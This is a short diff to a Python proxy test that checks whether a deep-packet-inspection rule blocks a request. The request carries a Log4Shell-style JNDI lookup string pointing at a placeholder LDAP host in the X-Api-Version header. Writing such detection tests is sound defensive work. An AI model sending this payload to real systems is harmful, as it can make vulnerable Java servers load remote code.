@@ -37,7 +37,9 @@ class SignatureTest(ProxyTestCase):
         code, out, _ = curl("-o", "/dev/null", "-w", "%{http_code}", "-H", "X-Api-Version: ${jndi:ldap://x.example/a}",
                             dp.url("/path/x"))
         self.assertEqual(out, b"403")
-        self.assertEqual(self.last_flow(dp, 2)["rule"], "dpg-inj-006")
+        rec = self.last_flow(dp, 2)
+        self.assertEqual(rec["verdict"], "dpi_block")
+        self.assertIn("dpg-inj-006", rec["dpi"].split(","))  # (dpg-inj-058, obfuscated JNDI, matches too)
         # A clean request passes, with no inspection fields but the verdict.
         code, out, _ = curl("-o", "/dev/null", "-w", "%{http_code}", dp.url("/path/x?q=what+is+a+dpu"))
         self.assertEqual(out, b"200")
